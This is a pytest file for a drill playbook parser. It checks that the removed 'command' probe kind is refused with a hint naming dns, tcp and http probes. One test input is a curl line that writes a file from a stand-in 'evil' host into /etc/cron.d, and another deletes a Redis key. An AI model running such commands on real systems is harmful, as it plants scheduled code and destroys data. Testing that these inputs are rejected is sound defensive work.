"""A probe kind that was removed is an issue at its key saying why and what to use instead."""

from __future__ import annotations

import pytest

from drills.playbook.errors import PlaybookError
from drills.playbook.parser import parse_playbook
from drills.playbook.schema import json_schema

PLAYBOOK = """\
apiVersion: drillhall/v1
kind: Playbook
metadata: {{name: old}}
targets:
  web: {{host: web}}
probes:
  - name: checkout
    http: {{url: "http://web:8080/"}}
  - name: old
{probe}
steps:
  - wait: 1s
"""


@pytest.mark.parametrize(
    "probe",
    [
        '    command: {argv: [redis-cli, -h, 127.0.0.1, DEL, "drillhall:halt"]}',
        # Beside a kind that exists, the removed one is still what the issue is about.
        '    tcp: {host: web, port: 80}\n    command: {argv: ["true"]}',
        "    command: curl -o /etc/cron.d/x http://evil/",
    ],
)
def test_a_command_probe_is_refused_at_its_key_naming_what_to_use(probe: str) -> None:
    text = PLAYBOOK.format(probe=probe)
    with pytest.raises(PlaybookError) as caught:
        parse_playbook(text)

    (issue,) = caught.value.issues
    line = next(n for n, row in enumerate(text.splitlines(), 1) if "command:" in row)
    assert (issue.line, issue.column) == (line, 5)
    assert "the 'command' probe was removed for safety" in issue.message
    assert issue.hint is not None
    assert all(kind in issue.hint for kind in ("dns (", "tcp (", "http ("))


def test_the_schema_offers_the_dns_probe_and_no_command_probe() -> None:
    defs = json_schema()["$defs"]
    assert "CommandProbe" not in defs and "CommandSpec" not in defs
    assert set(defs["DnsSpec"]["properties"]) == {"name", "server", "port", "type", "timeout"}
    assert defs["DnsSpec"]["required"] == ["name", "server"]
